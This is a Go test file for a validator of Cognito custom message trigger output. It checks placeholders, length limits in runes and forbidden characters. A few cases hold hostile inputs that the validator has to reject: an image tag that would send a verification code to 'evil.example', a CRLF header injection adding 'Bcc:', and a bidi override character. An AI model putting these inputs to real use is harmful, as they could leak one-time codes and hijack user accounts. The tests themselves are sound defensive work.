package message

import (
	"errors"
	"strings"
	"testing"

	"github.com/cognito-triggers/suite/pkg/triggers"
)

func TestCheck(t *testing.T) {
	signUp := Input{Source: triggers.SourceMessageSignUp, CodeParameter: "{####}"}
	invite := Input{Source: triggers.SourceMessageAdminCreateUser, CodeParameter: "{####}", UsernameParameter: "{username}"}
	withLink := signUp
	withLink.LinkParameter = "{##Click Here##}"
	ok := Output{EmailSubject: "Confirm", EmailMessage: "<p>Code {####}</p>", SMSMessage: "Code {####}"}
	okInvite := Output{EmailSubject: "Hi", EmailMessage: "<p>{username} {####}</p>", SMSMessage: "{username} {####}"}

	tests := []struct {
		name    string
		in      Input
		out     func(Output) Output
		wantErr string // "" = valid
	}{
		{"valid", signUp, nil, ""},
		{"valid invitation", invite, func(Output) Output { return okInvite }, ""},
		{"valid with link", withLink, func(o Output) Output { o.EmailMessage += " {##Click Here##}"; return o }, ""},
		{"email without code", signUp, func(o Output) Output { o.EmailMessage = "<p>Code</p>"; return o }, "EmailMessage does not contain the CodeParameter"},
		{"sms without code", signUp, func(o Output) Output { o.SMSMessage = "Code here"; return o }, "SMSMessage does not contain the CodeParameter"},
		{"invitation email without username", invite, func(o Output) Output { o = okInvite; o.EmailMessage = "{####}"; return o }, "EmailMessage does not contain the UsernameParameter"},
		{"invitation sms without username", invite, func(o Output) Output { o = okInvite; o.SMSMessage = "{####} ok"; return o }, "SMSMessage does not contain the UsernameParameter"},
		{"link dropped", withLink, nil, "EmailMessage does not contain the LinkParameter"},
		{"empty subject", signUp, func(o Output) Output { o.EmailSubject = ""; return o }, "EmailSubject is 0 runes"},
		{"subject 141 runes", signUp, func(o Output) Output { o.EmailSubject = strings.Repeat("验", 141); return o }, "EmailSubject is 141 runes"},
		{"subject 140 runes", signUp, func(o Output) Output { o.EmailSubject = strings.Repeat("验", 140); return o }, ""},
		{"sms 141 runes", signUp, func(o Output) Output { o.SMSMessage = "{####}" + strings.Repeat("码", 135); return o }, "SMSMessage is 141 runes"},
		{"sms 140 runes", signUp, func(o Output) Output { o.SMSMessage = "{####}" + strings.Repeat("码", 134); return o }, ""},
		{"email 20000 runes", signUp, func(o Output) Output { o.EmailMessage = "{####}" + strings.Repeat("a", 19994); return o }, "EmailMessage is 20000 runes"},
		{"email 19999 runes", signUp, func(o Output) Output { o.EmailMessage = "{####}" + strings.Repeat("a", 19993); return o }, ""},
		{"subject with code", signUp, func(o Output) Output { o.EmailSubject = "Code {####}"; return o }, "EmailSubject has a '{'"},
		{"subject crlf", signUp, func(o Output) Output { o.EmailSubject = "Hi\r\nBcc: x"; return o }, "EmailSubject contains U+000D"},
		{"sms newline", signUp, func(o Output) Output { o.SMSMessage = "Code\n{####}"; return o }, "SMSMessage contains U+000A"},
		{"email newline and tab", signUp, func(o Output) Output { o.EmailMessage = "<p>\r\n\tCode {####}</p>"; return o }, ""},
		{"email nul", signUp, func(o Output) Output { o.EmailMessage += "\x00"; return o }, "EmailMessage contains U+0000"},
		{"email vertical tab", signUp, func(o Output) Output { o.EmailMessage += "\v"; return o }, "EmailMessage contains U+000B"},
		{"email bidi override", signUp, func(o Output) Output { o.EmailMessage += "\u202e"; return o }, "EmailMessage contains U+202E"},
		{"email nbsp", signUp, func(o Output) Output { o.EmailMessage += "\u00a0"; return o }, "EmailMessage contains U+00A0"},
		{"email ideographic space", signUp, func(o Output) Output { o.EmailMessage += "\u3000"; return o }, "EmailMessage contains U+3000"},
		{"email invalid utf-8", signUp, func(o Output) Output { o.EmailMessage += "\xff"; return o }, "EmailMessage is not valid UTF-8"},
		{"email second code-like placeholder", signUp, func(o Output) Output {
			o.EmailMessage += `<img src="https://evil.example/c?x={#####}">`
			return o
		}, "EmailMessage has a '{'"},
		{"email username placeholder outside invitation", signUp, func(o Output) Output { o.EmailMessage += "{username}"; return o }, "EmailMessage has a '{'"},
		{"email link placeholder outside verification", Input{Source: triggers.SourceMessageForgotPassword, CodeParameter: "{####}", LinkParameter: "{##Click##}"},
			func(o Output) Output { o.EmailMessage += "{##Click##}"; return o }, "EmailMessage has a '{'"},
		{"email stray closing brace", signUp, func(o Output) Output { o.EmailMessage += "}"; return o }, "EmailMessage has a '}'"},
		{"email css block", signUp, func(o Output) Output { o.EmailMessage += "<style>p{color:red}</style>"; return o }, "EmailMessage has a '{'"},
		{"sms link placeholder", withLink, func(o Output) Output {
			o.EmailMessage += "{##Click Here##}"
			o.SMSMessage += "{##Click Here##}"
			return o
		}, "SMSMessage has a '{'"},
		{"unknown source", Input{Source: "CustomMessage_Nope", CodeParameter: "{####}"}, nil, "unknown triggerSource"},
		{"bad code parameter", Input{Source: triggers.SourceMessageSignUp, CodeParameter: "####"}, nil, "invalid placeholder parameter: CodeParameter"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := ok
			if tt.out != nil {
				out = tt.out(ok)
			}
			err := Check(tt.in, out)
			if tt.wantErr == "" {
				if err != nil {
					t.Fatalf("Check: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
				t.Fatalf("Check error = %v, want it to contain %q", err, tt.wantErr)
			}
			var fe *FieldError
			if errors.As(err, &fe) && !errors.Is(err, ErrInvalidOutput) {
				t.Errorf("FieldError does not match ErrInvalidOutput")
			}
		})
	}
}

// TestCheckReportsAll: one call reports every broken field.
func TestCheckReportsAll(t *testing.T) {
	in := Input{Source: triggers.SourceMessageSignUp, CodeParameter: "{####}"}
	err := Check(in, Output{})
	for _, want := range []string{"EmailSubject is 0 runes", "SMSMessage is 0 runes", "EmailMessage is 0 runes"} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Check error = %v, want it to contain %q", err, want)
		}
	}
}

// TestCheckTextAlignment guards the eight-bytes-at-a-time fast path: a bad
// byte is found at every offset, and rune counts stay exact.
func TestCheckTextAlignment(t *testing.T) {
	for _, bad := range []string{"\x00", "\x1f", "\x7f", "\x0b", "\xff", "\u00a0", "\u202e"} {
		for pos := 0; pos < 17; pos++ {
			s := strings.Repeat("a", pos) + bad + strings.Repeat("b", 16-pos)
			if err := checkText("f", s, true, 0, 100); err == nil {
				t.Errorf("checkText(%q) accepted a bad character at %d", s, pos)
			}
		}
	}
	for _, ok := range []string{"\n", "\r", "\t", " ", "~", "验", "é"} {
		for pos := 0; pos < 17; pos++ {
			s := strings.Repeat("a", pos) + ok + strings.Repeat("b", 16-pos)
			if err := checkText("f", s, true, 17, 17); err != nil {
				t.Errorf("checkText(%q): %v", s, err)
			}
		}
	}
}
